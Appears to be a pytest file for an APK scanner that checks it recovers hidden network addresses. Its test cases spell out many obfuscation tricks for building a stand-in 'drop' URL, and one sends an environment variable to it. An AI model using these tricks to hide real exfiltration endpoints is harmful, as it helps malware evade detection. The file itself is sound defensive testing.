"""What needs nothing from outside is computed: no way of putting an address together hides it."""

from collections.abc import Callable

import pytest

from rogue_scan.apk.code.types import CodeFacts, NoResources

Analyse = Callable[..., CodeFacts]

URL = "http://drop.hidden.example/in"
APP = """
.class Lapp/Main; Landroid/app/Activity;
.method onCreate(Landroid/os/Bundle;)V 13
{body}
static app.Net.open(String) v0
return-void
{more}
.class Lapp/Net;
.method static open(Ljava/lang/String;)V 6
v0 = new java.net.URL(String) v5
java.net.URL.openConnection()java.net.URLConnection v0
return-void
"""

# Each leaves the address in v0.
TEXTS = {
    "a builder that is given one of each kind": """
        v1 = "http://drop.hid"
        v2 = new StringBuilder(String) v1
        v3 = "den.example/in"
        v4 = new StringBuilder(String) v3
        StringBuilder.append(CharSequence)StringBuilder v2 v4
        v0 = StringBuilder.toString()String v2""",
    "a piece in the middle": """
        v1 = "http://drop.example/in"
        v2 = new StringBuilder(String) v1
        v3 = 12
        v4 = "hidden."
        StringBuilder.insert(int,String)StringBuilder v2 v3 v4
        v0 = StringBuilder.toString()String v2""",
    "characters taken out": """
        v1 = "http://drop.hXiddYYen.example/in"
        v2 = new StringBuilder(String) v1
        v3 = 13
        StringBuilder.deleteCharAt(int)StringBuilder v2 v3
        v3 = 16
        v4 = 18
        StringBuilder.delete(int,int)StringBuilder v2 v3 v4
        v0 = StringBuilder.toString()String v2""",
    "a character put right": """
        v1 = "http:#/drop.hidden.example/in"
        v2 = new StringBuilder(String) v1
        v3 = 5
        v4 = 47
        StringBuilder.setCharAt(int,char) v2 v3 v4
        v0 = StringBuilder.toString()String v2""",
    "a builder used again": """
        v1 = "https://decoy.example/"
        v2 = new StringBuilder(String) v1
        v3 = 0
        StringBuilder.setLength(int) v2 v3
        v1 = "http://drop.hidden.example/in?x=1"
        StringBuilder.append(String)StringBuilder v2 v1
        v3 = 29
        StringBuilder.setLength(int) v2 v3
        v0 = StringBuilder.toString()String v2""",
    "part of a builder": """
        v1 = "<http://drop.hidden.example/in>"
        v2 = new StringBuilder(String) v1
        v3 = 1
        v4 = StringBuilder.length()int v2
        add-int/lit8 v4, v4, -1
        v0 = StringBuilder.substring(int,int)String v2 v3 v4""",
    "what stands behind a mark": """
        v1 = "config;http://drop.hidden.example/in"
        v2 = 59
        v3 = String.indexOf(int)int v1 v2
        add-int/lit8 v3, v3, 1
        v0 = String.substring(int)String v1 v3""",
    "what stands before the last mark": """
        v1 = "http://drop.hidden.example/in/unused"
        v2 = "/"
        v3 = String.lastIndexOf(String)int v1 v2
        v4 = 0
        v0 = String.substring(int,int)String v1 v4 v3""",
    "blanks and capitals": """
        v1 = "  HTTP://DROP.hidden.EXAMPLE/in "
        v1 = String.trim()String v1
        v0 = String.toLowerCase()String v1""",
    "all of a kind of character removed": """
        v1 = "h1t2t3p://drop.hid4den.example/in5"
        v2 = "[0-9]"
        v3 = ""
        v0 = String.replaceAll(String,String)String v1 v2 v3""",
    "only the first one replaced": """
        v1 = "ftp://drop.hidden.example/in"
        v2 = "ftp"
        v3 = "http"
        v0 = String.replaceFirst(String,String)String v1 v2 v3""",
    "an array of characters, part of it": """
        v1 = "xxhttp://drop.hidden.example/inxx"
        v2 = String.toCharArray()char[] v1
        v3 = 2
        v4 = 29
        v0 = new String(char[],int,int) v2 v3 v4""",
    "bytes, part of them": """
        v1 = "xxhttp://drop.hidden.example/inxx"
        v2 = String.getBytes()byte[] v1
        v3 = 2
        v4 = 29
        v5 = "x-made-up"
        v0 = new String(byte[],int,int,String) v2 v3 v4 v5""",
    "characters copied into an array": """
        v1 = "http://drop.hidden.example/in"
        v5 = 29
        new-array v2, v5, [C
        v3 = 0
        String.getChars(int,int,char[],int) v1 v3 v5 v2 v3
        v0 = static String.valueOf(char[])String v2""",
    "split, and put together the other way round": """
        v1 = "in|example|hidden|drop"
        v2 = "\\\\|"
        v3 = String.split(String)String[] v1 v2
        v4 = 3
        aget-object v5, v3, v4
        v6 = "http://"
        v0 = String.concat(String)String v6 v5
        v5 = ".hidden.example/in"
        v0 = String.concat(String)String v0 v5""",
    "split at blanks": """
        v1 = "http://drop.hidden.example/in   rest"
        v2 = "[ ]+"
        v3 = String.split(String)String[] v1 v2
        v4 = 0
        aget-object v0, v3, v4""",
    "joined": """
        v1 = 3
        new-array v2, v1, [Ljava/lang/String;
        v3 = 0
        v4 = "http://drop"
        aput-object v4, v2, v3
        v3 = 1
        v4 = "hidden"
        aput-object v4, v2, v3
        v3 = 2
        v4 = "example/in"
        aput-object v4, v2, v3
        v4 = "."
        v0 = static String.join(CharSequence,CharSequence[])String v4 v2""",
    "concatenated by TextUtils": """
        v1 = 2
        new-array v2, v1, [Ljava/lang/CharSequence;
        v3 = 0
        v4 = "http://drop.hid"
        aput-object v4, v2, v3
        v3 = 1
        v4 = "den.example/in"
        aput-object v4, v2, v3
        v0 = static TextUtils.concat(CharSequence[])CharSequence v2""",
    "formatted, with places by number": """
        v1 = 2
        new-array v2, v1, [Ljava/lang/Object;
        v3 = 0
        v4 = "example"
        aput-object v4, v2, v3
        v3 = 1
        v4 = 100
        v4 = static Character.valueOf(char)Character v4
        aput-object v4, v2, v3
        v5 = "http://%2$crop.hidden.%1$s/in"
        v0 = static String.format(String,Object[])String v5 v2""",
    "formatted into a builder": """
        v6 = "http://"
        v7 = new StringBuilder(String) v6
        v1 = new Formatter(java.lang.Appendable) v7
        v2 = 1
        new-array v3, v2, [Ljava/lang/Object;
        v2 = 0
        v4 = "drop"
        aput-object v4, v3, v2
        v5 = "%s.hidden.example/in"
        Formatter.format(String,Object[])Formatter v1 v5 v3
        v0 = StringBuilder.toString()String v7""",
    "a pattern that formats itself": """
        v2 = 1
        new-array v3, v2, [Ljava/lang/Object;
        v2 = 0
        v4 = "drop"
        aput-object v4, v3, v2
        v5 = "http://%s.hidden.example/in"
        v0 = String.formatted(Object[])String v5 v3""",
    "a URL as text": """
        v1 = "http://drop.hidden.example/in"
        v2 = new java.net.URL(String) v1
        v0 = java.net.URL.toString()String v2""",
}

TEXTS |= {
    "a URL of its parts": """
        v1 = "http"
        v2 = "drop.hidden.example"
        v3 = "/in"
        v4 = new java.net.URL(String,String,String) v1 v2 v3
        v0 = java.net.URL.toString()String v4""",
    "a URL beside another one": """
        v1 = "http://drop.hidden.example/old/page"
        v2 = new java.net.URL(String) v1
        v3 = "/in"
        v4 = new java.net.URL(java.net.URL,String) v2 v3
        v0 = java.net.URL.toString()String v4""",
    "the host of another address": """
        v1 = "https://drop.hidden.example/old"
        v1 = static java.net.URI.create(String)java.net.URI v1
        v1 = java.net.URI.toURL()java.net.URL v1
        v1 = java.net.URL.getHost()String v1
        v2 = "http://"
        v0 = String.concat(String)String v2 v1
        v2 = "/in"
        v0 = String.concat(String)String v0 v2""",
    "percent signs": """
        v1 = "http%3A%2F%2Fdrop.hidden.example%2Fin"
        v0 = static Uri.decode(String)String v1""",
    "percent signs put in and taken out": """
        v1 = "//drop.hidden.example/in"
        v1 = static Uri.encode(String)String v1
        v1 = static java.net.URLDecoder.decode(String)String v1
        v2 = "http:"
        v0 = String.concat(String)String v2 v1""",
    "hexadecimal": """
        v1 = "687474703a2f2f64726f702e68696464656e2e6578616d706c652f696e"
        v1 = static org.apache.commons.codec.binary.Hex.decodeHex(String)byte[] v1
        v0 = new String(byte[]) v1""",
    "base64 there and back": """
        v1 = "http://drop.hidden.example/in"
        v2 = String.getBytes()byte[] v1
        v3 = 0
        v4 = static android.util.Base64.encodeToString(byte[],int)String v2 v3
        v2 = static android.util.Base64.decode(String,int)byte[] v4 v3
        v0 = new String(byte[]) v2""",
    "the part of a Uri": """
        v1 = "http"
        v2 = "//drop.hidden.example/in"
        v3 = static Uri.fromParts(String,String,String)Uri v1 v2 v1
        v0 = Uri.toString()String v3""",
    "a path added to a Uri": """
        v1 = "http://drop.hidden.example"
        v1 = static Uri.parse(String)Uri v1
        v2 = "in"
        v3 = static Uri.withAppendedPath(Uri,String)Uri v1 v2
        v0 = Uri.toString()String v3""",
    "the name of a class": """
        const-class v1, Lapp/Main;
        v1 = Class.getSimpleName()String v1
        v1 = String.toLowerCase()String v1
        v2 = "main"
        v3 = String.equals(Object)boolean v1 v2
        v1 = "decoy"
        if-eqz v3, :end
        v1 = "drop"
        :end
        v2 = "http://"
        v0 = String.concat(String)String v2 v1
        v2 = ".hidden.example/in"
        v0 = String.concat(String)String v0 v2""",
}

PORT = "http://drop.hidden.example:8021/in"
# Each leaves the port in v3, of the type that stands behind.
NUMBERS = {
    "a number": ("v3 = 8021", "int"),
    "a boxed number": ("v3 = 8021; v3 = static Integer.valueOf(int)Integer v3", "Object"),
    "a number unpacked": (
        "v3 = 8021; v3 = static Integer.valueOf(int)Integer v3; v3 = Integer.intValue()int v3",
        "int",
    ),
    "a text read as a number": (
        'v3 = "8021"; v3 = static Integer.valueOf(String)Integer v3; v3 = Integer.toString()String v3',
        "String",
    ),
    "hexadecimal digits": ('v3 = "1f55"; v4 = 16; v3 = static Integer.parseInt(String,int)int v3 v4', "int"),
    "a number with its base": ('v3 = "0x1f55"; v3 = static Integer.decode(String)int v3', "int"),
    "written in hexadecimal": ("v3 = 0x8021; v3 = static Integer.toHexString(int)String v3", "String"),
    "turned into text": ("v3 = 8021; v3 = static Integer.toString(int)String v3", "String"),
    "the smaller one": ("v3 = 8021; v4 = 9000; v3 = static Math.min(int,int)int v3 v4", "int"),
    "the larger one": ("v3 = 8021; v4 = -9000; v3 = static Math.max(int,int)int v3 v4", "int"),
    "without its sign": ("v3 = -8021; v3 = static Math.abs(int)int v3", "int"),
    "what is left": ("v3 = -1979; v4 = 10000; v3 = static Math.floorMod(int,int)int v3 v4", "int"),
    "a digit, then the rest": (
        """v3 = "8"; v4 = 0; v3 = String.charAt(int)char v3 v4
        v3 = static Character.getNumericValue(char)int v3; StringBuilder.append(int)StringBuilder v2 v3
        v3 = "021\"""",
        "String",
    ),
    "a digit by its base, then the rest": (
        """v3 = 56; v4 = 10; v3 = static Character.digit(char,int)int v3 v4
        StringBuilder.append(int)StringBuilder v2 v3
        v3 = "021\"""",
        "String",
    ),
    "a character, then the rest": (
        """v3 = 56; v3 = static Character.toString(char)String v3
        StringBuilder.append(String)StringBuilder v2 v3
        v3 = "021\"""",
        "String",
    ),
    "divided": ("v3 = 80219; div-int/lit8 v3, v3, 10", "int"),
    "a remainder of a negative number": (
        "v3 = -18021; v4 = 10000; rem-int v3, v3, v4; neg-int v3, v3",
        "int",
    ),
    "by way of a float": ("v3 = 8021; int-to-float v3, v3; float-to-int v3, v3", "int"),
    "shifted": ("v3 = 16042; ushr-int/lit8 v3, v3, 1", "int"),
    "cut to sixteen bits": ("v3 = 270165; int-to-short v3, v3", "int"),
    "cut to eight bits, then the rest": (
        """v3 = 2384; int-to-byte v3, v3; StringBuilder.append(int)StringBuilder v2 v3
        v3 = "21\"""",
        "String",
    ),
}

# Each leaves a truth value in v2: the address is ``drop`` where it holds, else ``decoy``.
TRUE = {
    "equal texts": 'v3 = "yes"; v4 = "yes"; v2 = String.equals(Object)boolean v3 v4',
    "equal but for capitals": 'v3 = "yes"; v4 = "YES"; v2 = String.equalsIgnoreCase(String)boolean v3 v4',
    "the beginning": 'v3 = "yes"; v4 = "ye"; v2 = String.startsWith(String)boolean v3 v4',
    "the end": 'v3 = "yes"; v4 = "es"; v2 = String.endsWith(String)boolean v3 v4',
    "the middle": 'v3 = "yes"; v4 = "e"; v2 = String.contains(CharSequence)boolean v3 v4',
    "nothing": 'v3 = ""; v2 = String.isEmpty()boolean v3',
    "nothing but blanks": 'v3 = "  "; v2 = String.isBlank()boolean v3',
    "nothing, asked elsewhere": 'v3 = ""; v2 = static TextUtils.isEmpty(CharSequence)boolean v3',
    "the hash of a text": 'v3 = "ab"; v4 = String.hashCode()int v3; const v5, 3105; v2 = 0; '
    "if-ne v4, v5, :out; v2 = 1; :out",
    "a digit": "v3 = 55; v2 = static Character.isDigit(char)boolean v3",
    "a letter": "v3 = 97; v2 = static Character.isLetter(char)boolean v3",
    "a capital": "v3 = 65; v2 = static Character.isUpperCase(char)boolean v3",
    "a small letter": "v3 = 97; v2 = static Character.isLowerCase(char)boolean v3",
    "made a capital": "v3 = 97; v3 = static Character.toUpperCase(char)char v3; "
    "v2 = static Character.isUpperCase(char)boolean v3",
    "made small": "v3 = 65; v3 = static Character.toLowerCase(char)char v3; "
    "v2 = static Character.isLowerCase(char)boolean v3",
    "a long number that is larger": "const-wide/16 v4, 5; const-wide/16 v6, 3; cmp-long v2, v4, v6",
    "a text put into a list": 'v3 = new ArrayList(); v4 = "x"; ArrayList.add(Object)boolean v3 v4; '
    "v2 = ArrayList.size()int v3",
}

LISTS = {
    "an element of a list": """
        v1 = new ArrayList()
        ArrayList.add(Object)boolean v1 v2
        ArrayList.add(Object)boolean v1 v3
        v4 = 1
        v0 = ArrayList.get(int)Object v1 v4""",
    "an element that was replaced": """
        v1 = new ArrayList()
        ArrayList.add(Object)boolean v1 v2
        v4 = 0
        ArrayList.set(int,Object)Object v1 v4 v3
        v0 = ArrayList.get(int)Object v1 v4""",
    "the top of a stack": """
        v1 = new ArrayDeque()
        ArrayDeque.push(Object) v1 v2
        ArrayDeque.push(Object) v1 v3
        v4 = 0
        v5 = ArrayDeque.toArray()Object[] v1
        aget-object v0, v5, v4""",
    "a list of another list": """
        v1 = new ArrayList()
        ArrayList.add(Object)boolean v1 v2
        ArrayList.add(Object)boolean v1 v3
        v5 = new ArrayList(java.util.Collection) v1
        v4 = 1
        v0 = ArrayList.get(int)Object v5 v4""",
    "all of another list": """
        v1 = new ArrayList()
        ArrayList.add(Object)boolean v1 v3
        v5 = new ArrayList()
        ArrayList.add(Object)boolean v5 v2
        ArrayList.addAll(java.util.Collection)boolean v5 v1
        v4 = 1
        v0 = ArrayList.get(int)Object v5 v4""",
    "an array seen as a list": """
        v4 = 2
        new-array v5, v4, [Ljava/lang/String;
        v4 = 1
        aput-object v3, v5, v4
        v1 = static Arrays.asList(Object[])List v5
        v0 = List.get(int)Object v1 v4""",
    "a list of one": """
        v1 = static Collections.singletonList(Object)List v3
        v4 = 0
        v0 = List.get(int)Object v1 v4""",
    "a copy of a part of an array": """
        v4 = 3
        new-array v5, v4, [Ljava/lang/String;
        v4 = 2
        aput-object v3, v5, v4
        v4 = 1
        v6 = 3
        v5 = static Arrays.copyOfRange(Object[],int,int)Object[] v5 v4 v6
        aget-object v0, v5, v4""",
    "a copy of an array": """
        v4 = 1
        new-array v5, v4, [Ljava/lang/String;
        v4 = 0
        aput-object v3, v5, v4
        v6 = String[].clone()Object v5
        check-cast v6, [Ljava/lang/String;
        aget-object v0, v6, v4""",
    "moved within arrays": """
        v4 = 2
        new-array v5, v4, [Ljava/lang/String;
        new-array v6, v4, [Ljava/lang/String;
        v7 = 0
        aput-object v3, v5, v7
        v4 = 1
        static System.arraycopy(Object,int,Object,int,int) v5 v7 v6 v4 v4
        aget-object v0, v6, v4""",
    "an array of arrays made by reflection": """
        const-class v1, Ljava/lang/String;
        v4 = 2
        new-array v5, v4, [I
        v6 = 0
        aput v4, v5, v6
        v7 = 1
        aput v4, v5, v7
        v1 = static Array.newInstance(Class,int[])Object v1 v5
        check-cast v1, [[Ljava/lang/String;
        aget-object v8, v1, v7
        aput-object v3, v8, v6
        aget-object v8, v1, v7
        aget-object v0, v8, v6""",
    "one after the other": """
        v1 = new Vector()
        Vector.addElement(Object) v1 v2
        Vector.addElement(Object) v1 v3
        v4 = Vector.elements()Enumeration v1
        Enumeration.nextElement()Object v4
        v5 = Enumeration.hasMoreElements()boolean v4
        v0 = "http://decoy.example/"
        if-eqz v5, :end
        v0 = Enumeration.nextElement()Object v4
        :end""",
    "a value by its key": """
        v1 = new HashMap()
        v4 = "a"
        HashMap.put(Object,Object)Object v1 v4 v2
        v4 = "b"
        HashMap.put(Object,Object)Object v1 v4 v3
        v0 = HashMap.get(Object)Object v1 v4""",
    "a value in JSON text": """
        v5 = "{\\"name\\": \\"x\\", \\"to\\": \\"http://drop.hidden.example/in\\"}"
        v1 = new JSONObject(String) v5
        v4 = "to"
        v0 = JSONObject.getString(String)String v1 v4""",
}


def endpoints(facts: CodeFacts) -> dict[str, str | None]:
    return {endpoint.value: endpoint.hidden for endpoint in facts.endpoints}


def cast(body: str) -> str:
    return f"{body}\ncheck-cast v0, Ljava/lang/String;"


@pytest.mark.parametrize("way", TEXTS)
def test_texts(way: str, analyse: Analyse) -> None:
    assert URL in endpoints(analyse(APP.format(body=TEXTS[way], more="")))


@pytest.mark.parametrize("way", NUMBERS)
def test_numbers(way: str, analyse: Analyse) -> None:
    code, kind = NUMBERS[way]
    body = f"""
        v1 = "http://drop.hidden.example:"
        v2 = new StringBuilder(String) v1
        {code.replace("; ", chr(10))}
        StringBuilder.append({kind})StringBuilder v2 v3
        v3 = "/in"
        StringBuilder.append(String)StringBuilder v2 v3
        v0 = StringBuilder.toString()String v2"""
    assert PORT in endpoints(analyse(APP.format(body=body, more="")))


@pytest.mark.parametrize("question", TRUE)
def test_questions_that_have_one_answer(question: str, analyse: Analyse) -> None:
    body = f"""
        {TRUE[question].replace("; ", chr(10))}
        v3 = "drop"
        if-nez v2, :so
        v3 = "decoy"
        :so
        v1 = "http://"
        v0 = String.concat(String)String v1 v3
        v1 = ".hidden.example/in"
        v0 = String.concat(String)String v0 v1"""
    found = endpoints(analyse(APP.format(body=body, more="")))
    assert URL in found
    assert not any("decoy" in value for value in found)


@pytest.mark.parametrize("way", LISTS)
def test_lists(way: str, analyse: Analyse) -> None:
    body = f'v2 = "other"\nv3 = "{URL[::-1]}"\nv3 = app.Net.turned(String)String v3\n{LISTS[way]}'
    turn = """
        .class Lapp/Turn;
        .method static turned(Ljava/lang/String;)Ljava/lang/String; 4
        v0 = new StringBuilder(String) v3
        StringBuilder.reverse()StringBuilder v0
        v0 = StringBuilder.toString()String v0
        return-object v0"""
    body = body.replace("app.Net.turned", "static app.Turn.turned")
    found = endpoints(analyse(APP.format(body=cast(body), more=turn)))
    assert URL in found


def test_an_address_is_said_to_be_hidden_by_what_was_done_to_it(analyse: Analyse) -> None:
    """The last step alone would hide the first ones."""
    body = TEXTS["all of a kind of character removed"]
    assert "junk removed" in (endpoints(analyse(APP.format(body=body, more="")))[URL] or "")


def test_a_program_that_reads_beyond_a_text_ends_there(analyse: Analyse) -> None:
    body = """
        v1 = "abc"
        v2 = 7
        v3 = String.charAt(int)char v1 v2
        v1 = "http://never"
        v2 = ".example/"
        v0 = String.concat(String)String v1 v2"""
    assert endpoints(analyse(APP.format(body=body, more=""))) == {}


def test_unknown_pieces_leave_the_known_ones(analyse: Analyse) -> None:
    body = """
        v1 = static System.getenv(String)String v12
        v2 = "http://drop.hidden.example/in?e="
        v0 = String.concat(String)String v2 v1"""
    assert any(value.startswith(URL) for value in endpoints(analyse(APP.format(body=body, more=""))))


class Texts(NoResources):
    """The text resources of an app."""

    def __init__(self) -> None:
        self.known = {7: "drop.hidden.example", 8: "http://%1$s/in"}

    def string(self, resource: int) -> str | None:
        return self.known.get(resource)

    def strings(self, resource: int) -> list[str]:
        return ["other", self.known[7]] if resource == 9 else []

    def identifier(self, name: str, kind: str) -> int:
        return 7 if (name, kind) == ("host", "string") else 0

    def file(self, resource: int) -> bytes | None:
        return URL.encode() if resource == 10 else None


RESOURCES = {
    "a resource": """
        v1 = 7
        v1 = Context.getString(int)String v11 v1""",
    "an array of texts": """
        v2 = app.Main.getResources()android.content.res.Resources v11
        v1 = 9
        v3 = android.content.res.Resources.getStringArray(int)String[] v2 v1
        v1 = 1
        aget-object v1, v3, v1""",
    "a resource by its name": """
        v2 = app.Main.getResources()android.content.res.Resources v11
        v3 = "host"
        v4 = "string"
        v1 = android.content.res.Resources.getIdentifier(String,String,String)int v2 v3 v4 v4
        v1 = android.content.res.Resources.getString(int)String v2 v1""",
}


@pytest.mark.parametrize("way", RESOURCES)
def test_texts_of_the_package(way: str, analyse: Analyse) -> None:
    body = f"""{RESOURCES[way]}
        v2 = "http://"
        v0 = String.concat(String)String v2 v1
        v2 = "/in"
        v0 = String.concat(String)String v0 v2"""
    assert endpoints(analyse(APP.format(body=body, more=""), Texts()))[URL] is not None


def test_a_resource_with_places_to_fill(analyse: Analyse) -> None:
    body = """
        v1 = 1
        new-array v2, v1, [Ljava/lang/Object;
        v1 = 0
        v3 = "drop.hidden.example"
        aput-object v3, v2, v1
        v1 = 8
        v0 = Context.getString(int,Object[])String v11 v1 v2"""
    assert URL in endpoints(analyse(APP.format(body=body, more=""), Texts()))


def test_a_raw_file_of_the_package(analyse: Analyse) -> None:
    body = """
        v2 = app.Main.getResources()android.content.res.Resources v11
        v1 = 10
        v1 = android.content.res.Resources.openRawResource(int)java.io.InputStream v2 v1
        v2 = new java.io.InputStreamReader(java.io.InputStream) v1
        v3 = new java.io.BufferedReader(java.io.Reader) v2
        v0 = java.io.BufferedReader.readLine()String v3"""
    assert URL in endpoints(analyse(APP.format(body=body, more=""), Texts()))
